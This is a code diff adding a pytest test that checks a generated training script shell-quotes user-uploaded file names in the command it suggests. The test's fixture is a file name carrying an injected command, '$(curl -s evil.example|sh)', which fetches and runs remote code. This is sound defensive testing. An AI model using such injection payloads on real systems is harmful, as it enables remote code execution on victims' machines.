@@ -21,6 +21,7 @@ from torchcanvas.hidden_text import HIDDEN
 from torchcanvas.training.data import find_dataset, load_split
 from torchcanvas.training.data.storage import DatasetRecord
 from torchcanvas.training.script_data import data_code
+from torchcanvas.training.script_header import script_header
 from torchcanvas.training.settings import TrainingSettings
 
 from .conftest import DIGITS_CNN, DIGITS_TRAINING, wait_for
@@ -171,6 +172,24 @@ def test_a_script_without_its_file_says_in_one_line_what_to_pass(
     assert str(stopped.value) == (
         f"{tmp_path / 'other.csv'} has no column `f1`: give the CSV you uploaded, with its header."
     )
+
+
+def test_the_command_a_script_suggests_quotes_its_file_name_for_a_shell(
+    client: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The uploader names the file, and whoever reads the script (a share link's visitor, a
+    teacher) may paste the command it suggests: `;`, `$(…)` and spaces went to the shell."""
+    name = "d.csv; $(curl -s evil.example|sh); x.csv"
+    record = upload(client, name, blobs_csv(30), target="species")
+    info = find_dataset(record["id"], client.app.state.services.settings.data_dir)  # type: ignore[attr-defined]
+    header = script_header(Design.model_validate(DIGITS_CNN), info, None, "tab")
+    assert f"`python tab.py '{name}'`" in " ".join(header.split())
+    part = data_code(info)
+    script = _script("\n".join(sorted(part.imports)) + "\n" + part.code, tmp_path / "t.py")
+    monkeypatch.setattr(sys, "argv", ["my script.py"])
+    with pytest.raises(SystemExit) as stopped:
+        script["load_data"]()
+    assert str(stopped.value).endswith(f"as in: python 'my script.py' 'path/to/{name}'")
 
 
 @pytest.mark.parametrize(
